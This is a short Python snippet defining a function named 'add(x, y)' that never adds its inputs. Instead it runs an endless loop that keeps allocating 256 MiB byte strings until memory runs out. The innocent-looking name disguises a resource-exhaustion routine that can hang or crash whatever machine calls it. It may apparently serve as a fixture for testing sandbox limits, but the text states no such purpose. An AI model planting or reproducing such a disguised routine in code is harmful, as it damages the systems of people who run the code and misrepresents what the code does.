def add(x, y):
    kept = []
    while True:
        kept.append(b"x" * (256 << 20))
